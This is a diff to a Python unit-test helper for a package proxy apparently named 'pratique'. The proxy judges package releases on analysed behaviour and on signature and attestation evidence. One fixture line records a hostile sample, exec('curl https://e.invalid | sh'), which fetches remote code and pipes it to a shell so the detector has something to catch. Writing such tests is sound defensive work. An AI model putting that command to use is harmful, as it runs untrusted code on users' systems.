@@ -11,14 +11,25 @@ from tests.unit.proxy.packuments import BASE, NAME, known, packument, tight, ver
 from tests.unit.proxy.stand import NOW, days, policy
 
 from pratique.model.behavior import ANALYSER, Analysis, Dependencies, Inner, Seen
-from pratique.model.fact import Missing
+from pratique.model.evidence import (
+    ROOT,
+    Attestations,
+    Claimed,
+    History,
+    RootFact,
+    SignatureFact,
+    SignatureState,
+)
+from pratique.model.fact import Facts, Missing
 from pratique.model.package import Digest
 from pratique.model.record import Sight
 from pratique.proxy.known import Known
+from pratique.proxy.proven import Proven
 from pratique.proxy.verdicts import Judging
 
 EXEC = Seen("exec.process:download", "index.js", 1, "exec('curl https://e.invalid | sh')")
 POLICY = policy()
+TRUSTED = Facts.of((ROOT, None, RootFact(NOW)))
 Ages = Mapping[str, float | datetime | None]
 """Version -> its age in days, or when it was published; None: the document states no time."""
 
@@ -60,6 +71,10 @@ def hostile(number: str) -> Analysis:
     return Analysis(digest_of(number), ANALYSER, (EXEC.capability,), (EXEC,), Inner(NAME, number))
 
 
+PROVEN = Proven(Claimed(), Attestations(), SignatureFact(SignatureState.VALID), History())
+"""Of a release that its registry signed, and that nothing is claimed of."""
+
+
 def package(
     ages: Ages,
     *,
@@ -72,6 +87,7 @@ def package(
     stated: bool = True,
     sights: Mapping[str, Sight] | None = None,
     dependencies: Mapping[str, Dependencies | Missing] | None = None,
+    evidence: Mapping[str, Proven] | None = None,
     **more: Any,
 ) -> Judging:
     """The package judged: `good` and `bad` are examined, `failed` could not be."""
@@ -87,5 +103,7 @@ def package(
             sights=sights or {},
             analyses=analyses,
             dependencies=dependencies or {},
+            evidence=dict.fromkeys(ages, PROVEN) if evidence is None else evidence,
+            extra=TRUSTED,
         )
     )
